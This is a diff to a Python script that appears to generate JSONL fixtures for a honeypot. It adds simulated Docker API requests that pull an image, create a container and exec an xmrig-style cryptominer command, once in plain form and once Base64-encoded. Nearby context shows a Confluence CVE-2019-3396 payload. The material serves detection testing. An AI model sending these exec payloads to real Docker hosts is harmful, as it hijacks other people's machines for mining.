@@ -160,3 +160,23 @@ conf_payload = {"label": "cve_2019_3396_base64_cmd", "method": "POST",
                         "cmd": miner_cmd}}})}
 with open(os.path.join(out, "confluence-payload.jsonl"), "w") as f:
     f.write(json.dumps(conf_payload) + "\n")
+
+# An image pulled, a container created plainly, then an exec in it (by name) whose command is
+# an xmrig-style command line with a pool and a Monero address, and a second
+# exec that hides the same line in Base64: the honeypot hands each exec
+# command (and what it decodes to) to the file engine.
+exec_lines = [
+    rec("pull_alpine", "POST", "/v1.41/images/create?fromImage=alpine&tag=latest",
+        "Go-http-client/1.1", "192.0.2.61"),
+    rec("create_named", "POST", "/v1.41/containers/create?name=web",
+        "Go-http-client/1.1", "192.0.2.61", create_body(["sleep", "3600"])),
+    rec("exec_plain_miner", "POST", "/v1.41/containers/web/exec",
+        "Go-http-client/1.1", "192.0.2.61",
+        json.dumps({"AttachStdout": True, "Cmd": ["sh", "-c", miner_line.strip()]}).encode()),
+    rec("exec_base64_miner", "POST", "/v1.41/containers/web/exec",
+        "Go-http-client/1.1", "192.0.2.61",
+        json.dumps({"AttachStdout": True, "Cmd": ["sh", "-c", miner_cmd]}).encode()),
+]
+with open(os.path.join(out, "exec-payload.jsonl"), "w") as f:
+    for l in exec_lines:
+        f.write(json.dumps(l) + "\n")
